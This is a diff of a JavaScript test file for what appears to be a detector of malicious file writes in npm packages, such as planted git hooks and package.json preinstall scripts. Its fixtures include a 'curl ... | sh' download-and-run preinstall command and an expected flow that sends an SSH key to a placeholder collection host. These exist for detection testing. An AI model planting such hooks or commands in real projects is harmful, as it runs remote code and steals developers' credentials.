@@ -7,9 +7,8 @@ describe('files that are written', () => {
     const planted = flowsOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'post-merge'), '${hook}');`);
     assert.ok(planted.includes('ssh-key>command-argument@collect.invalid'), planted.join('; '));
     const scripts = `JSON.stringify({ scripts: { preinstall: 'curl -s https://load.invalid/p | sh' } })`;
-    assert.deepEqual(behavioursOf(`fs.writeFileSync(path.join(process.env.INIT_CWD, 'package.json'), ${scripts});`), [
-      'download-and-run import',
-    ]);
+    const behaviours = behavioursOf(`fs.writeFileSync(path.join(process.env.INIT_CWD, 'package.json'), ${scripts});`);
+    assert.deepEqual([...new Set(behaviours)], ['download-and-run import']);
     const honest = `#!/bin/sh\\nnpx --no-install lint-all\\n`;
     assert.deepEqual(
       behavioursOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'pre-push'), '${honest}');`),
